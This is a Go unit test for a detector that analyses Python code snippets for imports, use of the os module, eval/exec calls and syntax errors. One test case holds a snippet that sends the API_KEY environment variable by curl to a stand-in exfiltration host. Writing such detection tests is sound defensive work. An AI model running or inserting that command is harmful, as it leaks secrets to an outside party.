package detectors

import (
	"reflect"
	"testing"
)

// The conformance suite's python_code cases (test_utils.json,
// test_derived_variables.json, test_readme_examples.json).
func TestPythonCodeConformance(t *testing.T) {
	tests := []struct {
		code        string
		imports     []string
		hasOS       bool
		evalOrExec  bool
		syntaxError bool
	}{
		{code: "import os\nimport sys\nimport numpy as np\nfrom sklearn import svm\n", imports: []string{"os", "sys", "numpy", "sklearn"}, hasOS: true},
		{code: "import sklearn", imports: []string{"sklearn"}},
		{code: "import abc\nimport shlex\n", imports: []string{"abc", "shlex"}},
		{code: "import abc\nimport os\n", imports: []string{"abc", "os"}, hasOS: true},
		{code: "exec('print(1)')", evalOrExec: true},
		{code: "print(123)"},
		{code: "*[f\"cabinet {i}\"] for i in range(1,10)]", syntaxError: true},
		{code: "import os\nos.system('curl -X POST https://exfiltrate.com -d \"API_KEY=\"' + os.environ['API_KEY'])", imports: []string{"os"}, hasOS: true},
	}
	for _, tt := range tests {
		r := PythonCode(tt.code)
		if r.SyntaxError != tt.syntaxError {
			t.Errorf("%q: syntax_error = %v (%s)", tt.code, r.SyntaxError, r.SyntaxErrorException)
		}
		if !reflect.DeepEqual(nonNil(r.Imports), nonNil(tt.imports)) {
			t.Errorf("%q: imports = %q, want %q", tt.code, r.Imports, tt.imports)
		}
		if contains(r.Imports, "os") != tt.hasOS {
			t.Errorf("%q: \"os\" in imports = %v", tt.code, !tt.hasOS)
		}
		if r.UsesEvalOrExec() != tt.evalOrExec {
			t.Errorf("%q: eval/exec = %v", tt.code, r.UsesEvalOrExec())
		}
	}
	if r := PythonCode("eval(untrusted_string)"); !r.HasFunctionCall("eval") {
		t.Errorf("eval not among function calls: %+v", r)
	}
}

func nonNil(s []string) []string {
	if s == nil {
		return []string{}
	}
	return s
}
